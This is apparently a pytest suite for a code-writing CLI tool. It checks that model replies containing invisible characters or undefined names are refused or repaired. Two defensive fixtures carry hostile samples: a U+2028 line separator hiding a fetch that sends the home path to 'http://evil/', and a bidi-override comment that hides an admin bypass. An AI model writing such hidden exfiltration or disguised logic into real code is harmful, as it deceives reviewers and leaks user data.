"""Checks on what a reply would write, through the real CLI against the scripted endpoint:
characters that change how code reads, names nothing defines, and the reply format chosen
for long definitions."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.cli import run_blitzls
from tests.support.scripted_model import Reply, ScriptedModelServer


def blitzls(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return run_blitzls(env, *args, timeout=120)


def prompt_of(model_server: ScriptedModelServer, index: int) -> str:
    """The messages of the ``index``-th chat request, one after the other."""
    messages = model_server.chat_requests[index].body["messages"]
    return "\n".join(str(message["content"]) for message in messages)


# --------------------------------------------------------------------------- invisible text


def test_a_line_separator_that_would_run_a_comment_as_code_is_refused(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "app.js"
    source = "function total(items) {\n  // add up the items — ✓ 😀\n  return 0;\n}\n"
    path.write_text(source, encoding="utf-8")
    reply = (
        "```js\n  // harmless\u2028fetch('http://evil/' + process.env.HOME);\n"
        "  let t = 0;\n  for (const i of items) t += i;\n```\n"
    )
    model_server.enqueue(Reply(content=reply), Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "2", "--write")
    assert done.returncode == 10, done.stderr
    assert "U+2028 LINE SEPARATOR (line 2)" in done.stderr
    assert path.read_bytes() == source.encode()
    assert len(model_server.chat_requests) == 1  # no repair round for unsafe text


def test_a_bidi_override_in_a_comment_is_refused(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "access.py"
    source = (
        "def is_admin(user):\n"
        '    """Whether the user — ünïcödé 😀 — may administer."""\n'
        "    # check the role\n"
        "    return False\n"
    )
    path.write_text(source, encoding="utf-8")
    reply = (
        "```python\n"
        "    # check the role \u202e } \u2066 if user.admin: return True \u2069 \u2066\n"
        '    if user.role == "admin":\n'
        "        return True\n"
        "```\n"
    )
    model_server.enqueue(Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "3", "--write")
    assert done.returncode == 10, done.stderr
    assert "U+202E RIGHT-TO-LEFT OVERRIDE (line 3)" in done.stderr
    assert path.read_bytes() == source.encode()


# --------------------------------------------------------------------------- reply format

HOSTED_URL = "http://api.example.test/v1"  # answered by the scripted endpoint as a proxy


def hosted_env(server_env: dict[str, str], model_server: ScriptedModelServer) -> dict[str, str]:
    """An endpoint that is not on this machine (so blitzls treats the model as hosted),
    reached through the scripted endpoint acting as the HTTP proxy."""
    proxy = f"http://127.0.0.1:{model_server.port}"
    env = {k: v for k, v in server_env.items() if k.lower() not in ("no_proxy", "all_proxy")}
    return {**env, "BLITZLS_BASE_URL": HOSTED_URL, "HTTP_PROXY": proxy, "http_proxy": proxy}


def long_function(lines: int, instruction_at: int | None = None) -> str:
    """A module with one function of ``lines`` lines (non-ASCII inside)."""
    body = [f"    out.append(rows[{i}] * {i})  # Zeile {i} — ✓\n" for i in range(lines - 4)]
    if instruction_at is not None:
        body.insert(instruction_at, "    # ai! double the first row\n")
        body.pop()
    return (
        "def report(rows):\n"
        '    """Summarise the rows — naïve 😀."""\n'
        "    out = []\n" + "".join(body) + "    return out\n"
    )


SEARCH_REPLACE = (
    "<<<<<<< SEARCH\n"
    "    out.append(rows[0] * 0)  # Zeile 0 — ✓\n"
    "=======\n"
    "    out.append(rows[0] * 2)  # Zeile 0 — ✓\n"
    ">>>>>>> REPLACE\n"
)


@pytest.mark.parametrize(
    "how",
    [
        ("simplify", "--lines", "60"),  # a cursor inside the function
        ("fix", "--lines", "60", "--message", "rows[0] should count twice"),  # a diagnostic
        ("instruction",),  # an ai! comment
    ],
    ids=["cursor", "diagnostic", "ai!"],
)
def test_auto_asks_a_hosted_model_for_search_replace_on_a_102_line_function(
    how: tuple[str, ...],
    tmp_path: Path,
    server_env: dict[str, str],
    model_server: ScriptedModelServer,
) -> None:
    instruction = 30 if how[0] == "instruction" else None
    source = long_function(102, instruction)
    assert source.count("\n") == 102
    path = tmp_path / "report.py"
    path.write_text(source, encoding="utf-8")
    model_server.enqueue(Reply(content=SEARCH_REPLACE))
    done = blitzls(hosted_env(server_env, model_server), "run", how[0], str(path), *how[1:])
    assert done.returncode == 0, done.stderr
    (request,) = model_server.chat_requests
    assert request.headers["host"] == "api.example.test"
    assert "Reply with SEARCH/REPLACE blocks" in prompt_of(model_server, 0)
    assert "+    out.append(rows[0] * 2)  # Zeile 0 — ✓" in done.stdout


def test_auto_asks_for_a_rewrite_of_a_short_function_and_from_local_models(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "report.py"
    path.write_text(long_function(40), encoding="utf-8")
    rewrite = "```python\n" + long_function(40).replace("rows[0] * 0", "rows[0] * 2") + "```\n"
    model_server.enqueue(Reply(content=rewrite))
    done = blitzls(
        hosted_env(server_env, model_server), "run", "simplify", str(path), "--lines", "20"
    )
    assert done.returncode == 0, done.stderr
    assert "SEARCH/REPLACE" not in prompt_of(model_server, 0)
    path.write_text(long_function(102), encoding="utf-8")
    rewrite = "```python\n" + long_function(102).replace("rows[0] * 0", "rows[0] * 2") + "```\n"
    model_server.enqueue(Reply(content=rewrite))
    done = blitzls(server_env, "run", "simplify", str(path), "--lines", "60")  # on loopback
    assert done.returncode == 0, done.stderr
    assert "SEARCH/REPLACE" not in prompt_of(model_server, 1)


# --------------------------------------------------------------------------- undefined names


def run_python(path: Path, call: str) -> str:
    """``call`` evaluated with the written module imported, in a fresh interpreter."""
    code = f"import sys; sys.path.insert(0, {str(path.parent)!r}); import {path.stem} as m; "
    done = subprocess.run(
        [sys.executable, "-c", code + f"print({call})"],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


PAGES = '''\
"""Paging helpers — Seiten 📄, ünïcödé."""

import os


def pages(items, per_page):
    """How many pages the items fill — ✓."""
    # divide the item count by per_page, rounding up 😀
    return result
'''


def test_a_standard_module_the_new_code_uses_gets_its_import(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "paging.py"
    path.write_text(PAGES, encoding="utf-8")
    model_server.enqueue(
        Reply(content="```python\n    result = math.ceil(len(items) / per_page)\n```")
    )
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "8", "--write")
    assert done.returncode == 0, done.stderr
    assert path.read_text(encoding="utf-8") == PAGES.replace(
        "import os\n", "import os\nimport math\n"
    ).replace(
        "    # divide the item count by per_page, rounding up 😀\n",
        "    result = math.ceil(len(items) / per_page)\n",
    )
    assert run_python(path, "m.pages(['é'] * 7, 3)") == "3"
    assert len(model_server.chat_requests) == 1


PRIMES = '''\
"""Prime counting — Primzahlen 🔢."""


def count_primes(limit):
    """How many primes are below limit — ✓."""
    # count every n below limit for which is_prime(n) holds 😀
    return count
'''
USES_IS_PRIME = "```python\n    count = sum(1 for n in range(limit) if is_prime(n))\n```"
DEFINES_IS_PRIME = (
    "```python\n"
    "    def is_prime(n):\n"
    "        return n > 1 and all(n % d for d in range(2, int(n**0.5) + 1))\n"
    "\n"
    "    count = sum(1 for n in range(limit) if is_prime(n))\n"
    "```"
)


def test_an_undefined_helper_gets_one_repair_round_then_is_refused(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "primes.py"
    path.write_text(PRIMES, encoding="utf-8")
    model_server.enqueue(Reply(content=USES_IS_PRIME), Reply(content=USES_IS_PRIME))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "6", "--write")
    assert done.returncode == 10, done.stderr
    assert "the code uses `is_prime`, which is not defined" in done.stderr
    assert "after one repair round" in done.stderr
    assert path.read_text(encoding="utf-8") == PRIMES
    assert len(model_server.chat_requests) == 2
    repair = model_server.chat_requests[1].body["messages"][-1]["content"]
    assert "`is_prime` is not defined" in repair
    # nothing was cached: asked again, the model is asked again
    model_server.enqueue(Reply(content=USES_IS_PRIME), Reply(content=DEFINES_IS_PRIME))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "6", "--write")
    assert done.returncode == 0, done.stderr
    assert len(model_server.chat_requests) == 4


def test_a_repair_answer_that_defines_the_helper_is_applied_and_runs(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "primes.py"
    path.write_text(PRIMES, encoding="utf-8")
    model_server.enqueue(Reply(content=USES_IS_PRIME), Reply(content=DEFINES_IS_PRIME))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "6", "--write")
    assert done.returncode == 0, done.stderr
    assert "def is_prime(n):" in path.read_text(encoding="utf-8")
    assert run_python(path, "m.count_primes(20)") == "8"
    assert "`is_prime` is not defined" in prompt_of(model_server, 1)


def test_a_name_the_file_already_used_undefined_is_not_the_replys_fault(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "plugin.py"
    source = (
        "def done():\n"
        '    emit("fertig ✓")\n'
        "\n"
        "\n"
        "def report(rows):\n"
        "    # emit every row 😀\n"
        "    return len(rows)\n"
    )
    path.write_text(source, encoding="utf-8")
    reply = "```python\n    for row in rows:\n        emit(math.floor(row))\n```"
    model_server.enqueue(Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "6", "--write")
    assert done.returncode == 0, done.stderr
    assert path.read_text(encoding="utf-8") == "import math\n" + source.replace(
        "    # emit every row 😀\n", "    for row in rows:\n        emit(math.floor(row))\n"
    )
    assert len(model_server.chat_requests) == 1


def test_an_undefined_function_in_javascript_is_refused_after_the_repair_round(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "primes.js"
    source = (
        'const fs = require("fs");\n'
        "\n"
        "function countPrimes(limit) {\n"
        "  // count every n below limit that is prime — ✓ 😀\n"
        "  return count;\n"
        "}\n"
    )
    path.write_text(source, encoding="utf-8")
    reply = (
        "```js\n"
        "  const count = [...Array(limit).keys()].filter((n) => isPrime(n)).length;\n"
        "  console.log(Math.max(count, 0), fs.sep);\n"
        "```"
    )
    model_server.enqueue(Reply(content=reply), Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "4", "--write")
    assert done.returncode == 10, done.stderr
    assert "the code uses `isPrime`, which is not defined" in done.stderr
    assert "`isPrime` is not defined" in prompt_of(model_server, 1)
    assert path.read_bytes() == source.encode()
